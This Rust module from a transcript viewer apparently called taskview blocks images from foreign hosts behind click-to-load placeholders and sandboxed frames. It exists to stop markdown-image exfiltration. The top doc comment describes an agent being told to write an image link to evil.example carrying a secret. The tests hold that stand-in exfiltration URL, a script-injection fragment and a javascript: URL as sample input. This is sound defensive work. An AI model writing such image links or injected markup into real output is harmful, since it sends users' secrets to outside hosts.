//! Images from other hosts (docs/behaviour.md §6): nothing from a host other
//! than the app's own is fetched without the reader's click, so a transcript
//! cannot send what it holds elsewhere by being opened (an agent told to
//! write `![](https://evil.example/?d=SECRET)`). Such an image is shown as a
//! placeholder naming its host; a click loads that one image (mail clients'
//! rule), in a frame of the app's own origin whose policy allows it
//! ([`FRAME_PATH`]), or, in an exported page that fetches nothing, opens it in
//! a new tab. `--load-remote-images` loads them as they come.

use crate::screen::link::{remote_host, EXTERNAL_REL, EXTERNAL_TARGET};
use pulldown_cmark_escape::{escape_href, escape_html};

/// What a page does with images from other hosts.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum RemoteImages {
    /// A placeholder, loaded in the page on a click (served pages).
    #[default]
    OnClick,
    /// A placeholder that opens the image in a new tab (the exported page).
    OpenOnClick,
    /// Loaded as they come (`--load-remote-images`).
    Load,
}

/// The `<meta>` name by which the server tells the page its images rule.
pub const META: &str = "taskview-remote-images";

/// The app's own page that shows one remote image, `?src=<url>` (served by
/// `taskview serve` under a policy that allows just images).
pub const FRAME_PATH: &str = "/remote-image";

/// The class of a placeholder; its `data-remote-src` holds the URL.
pub const PLACEHOLDER_CLASS: &str = "remote-image";
/// The class of a placeholder's control (a button, or a link when exported).
pub const LOAD_CLASS: &str = "remote-image-load";
/// The class of a placeholder's alt text.
pub const ALT_CLASS: &str = "remote-image-alt";

impl RemoteImages {
    /// The rule of a page: exported, or as its `<meta>` says (`load`).
    pub fn of_page(exported: bool, meta: Option<&str>) -> RemoteImages {
        match (exported, meta) {
            (true, _) => RemoteImages::OpenOnClick,
            (false, Some("load")) => RemoteImages::Load,
            _ => RemoteImages::OnClick,
        }
    }

    /// The `<meta>` a served page carries for this rule, if any.
    pub fn meta(self) -> Option<String> {
        (self == RemoteImages::Load).then(|| format!("<meta name=\"{META}\" content=\"load\">"))
    }
}

/// The words of a placeholder's control.
pub fn placeholder_label(host: &str, images: RemoteImages) -> String {
    match images {
        RemoteImages::OpenOnClick => format!("Open image from {host}"),
        _ => format!("Load image from {host}"),
    }
}

/// Whether an image at `src` is held back for a click (another host's,
/// unless `Load`).
pub fn is_held(src: &str, images: RemoteImages) -> bool {
    images != RemoteImages::Load && remote_host(src).is_some()
}

/// What stands for an image at `src` with `alt` text: `None` when it may be
/// an `<img>` as it is (the app's own host, or `Load`).
pub fn placeholder(src: &str, alt: &str, images: RemoteImages) -> Option<String> {
    if !is_held(src, images) {
        return None;
    }
    let host = remote_host(src)?;
    let mut html = format!("<span class=\"{PLACEHOLDER_CLASS}\" data-remote-src=\"");
    let _ = escape_html(&mut html, src);
    html.push_str("\" title=\"");
    let _ = escape_html(&mut html, src);
    html.push_str("\">");
    let label = placeholder_label(&host, images);
    if images == RemoteImages::OpenOnClick {
        html.push_str(&format!("<a class=\"{LOAD_CLASS}\" href=\""));
        let _ = escape_href(&mut html, src);
        html.push_str(&format!(
            "\" rel=\"{EXTERNAL_REL}\" target=\"{EXTERNAL_TARGET}\">"
        ));
        let _ = escape_html(&mut html, &label);
        html.push_str("</a>");
    } else {
        html.push_str(&format!("<button type=\"button\" class=\"{LOAD_CLASS}\">"));
        let _ = escape_html(&mut html, &label);
        html.push_str("</button>");
    }
    if !alt.is_empty() {
        html.push_str(&format!(" <span class=\"{ALT_CLASS}\">"));
        let _ = escape_html(&mut html, alt);
        html.push_str("</span>");
    }
    html.push_str("</span>");
    Some(html)
}

/// What a clicked placeholder becomes: the one image, in a frame of the
/// app's own page for it (`FRAME_PATH`); `None` when `src` is no remote URL.
pub fn loaded(src: &str, alt: &str) -> Option<String> {
    remote_host(src)?;
    let query: String = url_component(src);
    let mut html = format!(
        "<iframe class=\"remote-image-frame\" sandbox=\"\" referrerpolicy=\"no-referrer\" \
         src=\"{FRAME_PATH}?src={query}\" title=\""
    );
    let _ = escape_html(&mut html, if alt.is_empty() { "image" } else { alt });
    html.push_str("\"></iframe>");
    Some(html)
}

/// `text` percent-encoded for a query value.
fn url_component(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// The page [`FRAME_PATH`] serves for `src`: the image alone, scaled to fit,
/// or `None` when `src` is no remote URL. Its policy is the caller's.
pub fn frame_page(src: &str) -> Option<String> {
    remote_host(src)?;
    let mut html = String::from(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
         <meta name=\"referrer\" content=\"no-referrer\"><style>",
    );
    html.push_str(FRAME_STYLE);
    html.push_str("</style></head><body><img alt=\"\" src=\"");
    let _ = escape_href(&mut html, src);
    html.push_str("\"></body></html>");
    Some(html)
}

/// The frame page's one style (its policy allows it by hash).
pub const FRAME_STYLE: &str =
    "html,body{margin:0;height:100%}img{display:block;max-width:100%;max-height:100%;margin:auto}";

#[cfg(test)]
mod tests {
    use super::*;

    const EVIL: &str = "https://evil.example/?d=SECRET&x=\"><script>";

    #[test]
    fn a_remote_image_is_a_placeholder_naming_its_host_and_fetching_nothing() {
        let html = placeholder(EVIL, "chart", RemoteImages::OnClick).unwrap();
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<script"), "{html}");
        assert!(
            html.contains(">Load image from evil.example</button>"),
            "{html}"
        );
        assert!(
            html.contains(
                "data-remote-src=\"https://evil.example/?d=SECRET&amp;x=&quot;&gt;&lt;script&gt;\""
            ),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"remote-image-alt\">chart</span>"),
            "{html}"
        );
    }

    #[test]
    fn the_exported_page_opens_it_in_a_new_tab_and_load_keeps_the_image() {
        let html = placeholder(EVIL, "", RemoteImages::OpenOnClick).unwrap();
        assert!(
            html.contains(
                "rel=\"noopener noreferrer\" target=\"_blank\">Open image from evil.example</a>"
            ),
            "{html}"
        );
        assert_eq!(placeholder(EVIL, "", RemoteImages::Load), None);
        assert_eq!(
            placeholder("chart.png", "", RemoteImages::OnClick),
            None,
            "own host"
        );
    }

    #[test]
    fn a_click_loads_that_image_in_a_frame_of_the_apps_own_page() {
        let html = loaded("https://evil.example/a b.png?x=1&y=2", "a \"chart\"").unwrap();
        assert_eq!(
            html,
            "<iframe class=\"remote-image-frame\" sandbox=\"\" referrerpolicy=\"no-referrer\" \
             src=\"/remote-image?src=https%3A%2F%2Fevil.example%2Fa%20b.png%3Fx%3D1%26y%3D2\" \
             title=\"a &quot;chart&quot;\"></iframe>"
        );
        assert_eq!(loaded("javascript:alert(1)", ""), None);
        let page = frame_page("https://evil.example/x.png?a=1&b=\"2").unwrap();
        assert!(
            page.contains("<img alt=\"\" src=\"https://evil.example/x.png?a=1&amp;b=%222\">"),
            "{page}"
        );
        assert_eq!(frame_page("/local.png"), None);
    }

    #[test]
    fn a_page_reads_its_rule_from_being_exported_or_its_meta() {
        assert_eq!(RemoteImages::of_page(false, None), RemoteImages::OnClick);
        assert_eq!(
            RemoteImages::of_page(false, Some("load")),
            RemoteImages::Load
        );
        assert_eq!(
            RemoteImages::of_page(true, Some("load")),
            RemoteImages::OpenOnClick
        );
        assert_eq!(
            RemoteImages::Load.meta().unwrap(),
            "<meta name=\"taskview-remote-images\" content=\"load\">"
        );
        assert_eq!(RemoteImages::OnClick.meta(), None);
    }
}
